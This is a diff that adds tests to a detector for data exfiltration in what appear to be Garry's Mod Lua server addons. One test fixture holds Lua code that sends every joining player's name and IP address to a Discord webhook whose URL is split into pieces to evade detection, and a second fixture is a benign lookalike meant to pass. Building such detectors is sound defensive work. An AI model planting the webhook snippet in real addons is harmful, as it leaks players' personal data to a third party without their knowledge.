@@ -12,6 +12,24 @@ describe('dataexfiltration', () => {
     expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
     for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
   });
+  it('player IPs handed to a helper in another file that posts them', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_join.lua':
+        'include("join/util.lua")\nhook.Add("PlayerInitialSpawn", "j", function(ply)\n Join.Report(ply:Nick(), ply:IPAddress())\nend)',
+      'lua/join/util.lua':
+        'Join = Join or {}\nlocal url = "https://discord.com/api/" .. "webhooks/" .. "1/x"\nfunction Join.Report(...)\n local a = { ... }\n HTTP({ url = url, method = "POST", body = util.TableToJSON({ content = table.concat(a, " | ") }) })\nend',
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
+  });
+  it('an IP check in one file, an update check in another', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_bans.lua':
+        'hook.Add("PlayerInitialSpawn", "j", function(ply)\n if ply:IPAddress() == "203.0.113.9" then ply:Kick("banned") end\nend)',
+      'lua/autorun/server/sv_version.lua':
+        'hook.Add("InitPostEntity", "v", function()\n http.Post("https://updates.invalid/check", { v = "1.2" })\nend)',
+    });
+    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
+  });
   it('relay behind a configured URL', () => {
     const findings = check(rule, {
       'lua/autorun/server/sv_x.lua':
